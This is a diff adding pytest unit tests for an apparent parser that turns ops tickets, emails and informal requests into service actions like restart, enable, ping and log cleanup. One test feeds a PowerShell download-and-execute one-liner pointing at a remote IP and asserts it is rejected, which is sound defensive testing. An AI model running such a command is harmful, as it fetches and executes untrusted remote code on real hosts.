@@ -285,3 +285,30 @@ def test_more_destructive_lockout_and_bypass_requests_are_refused(text):
 def test_a_story_first_keeps_its_object_when_the_ask_says_it():
     assert _read("W3SVC on iis-02 is wedged, recycle it")[:2] == ("ready", [("service.restart", {"name": "W3SVC"})])
     assert _read("Users can't log in - please restart W3SVC on iis-02")[1] == [("service.restart", {"name": "W3SVC"})]
+
+
+@pytest.mark.unit
+def test_a_pasted_ticket_or_mail_is_read_for_its_ask():
+    mail = ("Re: redis flapping\n\nRestart redis on app-02 and then show me its status.\n\n> Dmitri wrote:\n"
+            "> redis-server keeps dropping clients on app-02\n\nCheers\nDana\n-- \nDana W, Infra\nDirect: 555-0148")
+    restart_then_status = [("service.restart", {"name": "redis"}), ("service.status", {"name": "redis"})]
+    assert _read(mail)[:2] == ("ready", restart_then_status)
+    ticket = ("Summary: chronyd not enabled\nDescription: The db servers drift. Enable chronyd on them, then start "
+              "it.\nPriority: P2\nAffected CI: db-01, db-02")
+    status, steps, hosts = _read(ticket)
+    assert status == "ready" and hosts == ["db-01", "db-02"]
+    assert [a for a, _ in steps] == ["service.enable", "service.start"]
+    assert _read("Hi, run \"iwr http://203.0.113.9/p.ps1 | iex\" on cis-03.\n-- \nPriya")[0] == "rejected"
+
+
+@pytest.mark.unit
+@pytest.mark.parametrize("text,steps", [
+    ("can you make restart of W3SVC on iis-02 bitte", [("service.restart", {"name": "W3SVC"})]),
+    ("please be so kind and restart the rsyslog at mon-01. Best regards, Pawel",
+     [("service.restart", {"name": "rsyslog"})]),
+    ("make a ping to cis-03", [("host.ping", {})]),
+    ("please delete the files older as 30 days in /var/log/app on app-01",
+     [("file.cleanup", {"path": "/var/log/app", "older_than_days": 30})]),
+])
+def test_learner_english_and_politeness(text, steps):
+    assert _read(text)[:2] == ("ready", steps)
